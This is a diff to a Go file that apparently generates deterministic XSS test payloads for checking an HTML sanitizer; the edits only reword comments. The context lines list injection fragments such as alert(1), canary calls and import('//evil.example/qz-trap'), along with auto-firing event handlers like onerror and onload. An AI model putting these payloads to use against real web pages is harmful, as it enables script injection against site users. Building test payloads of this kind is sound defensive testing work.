@@ -13,8 +13,8 @@ type payload struct {
 	text   string
 }
 
-// payloads are n hostile texts, the same for the same seed. Every family comes
-// in its turn, in ever new clothes.
+// payloads returns n hostile texts, the same ones for the same seed. The families take
+// turns, and each text is a new variant.
 func payloads(seed uint64, n int) []payload {
 	r := rand.New(rand.NewPCG(seed, 15))
 	list := make([]payload, n)
@@ -46,7 +46,7 @@ func (d dice) mixed(s string) string {
 	}, s)
 }
 
-// code is a script that shows that it ran.
+// code returns a script that shows that it ran.
 func (d dice) code() string {
 	return d.one("canary()", "canary`1`", "window.canary(1)", "top.canary()", "alert(1)", "confirm(1)", "setTimeout(canary)",
 		"fetch('/qz-trap')", "import('//evil.example/qz-trap')", "self['can'+'ary']()")
@@ -58,7 +58,7 @@ func (d dice) trap() string {
 	return d.one("qz-trap", "/qz-trap", "//evil.example/qz-trap", "http://evil.example/qz-trap", "https://evil.example/qz-trap?x")
 }
 
-// on is the name of a handler that some event calls without anybody's help.
+// on returns the name of a handler for an event that happens without the user.
 func (d dice) on() string {
 	return d.mixed(d.one("onerror", "onload", "onfocus", "onanimationstart", "ontoggle", "onpageshow", "onbeforetoggle", "onscrollend"))
 }
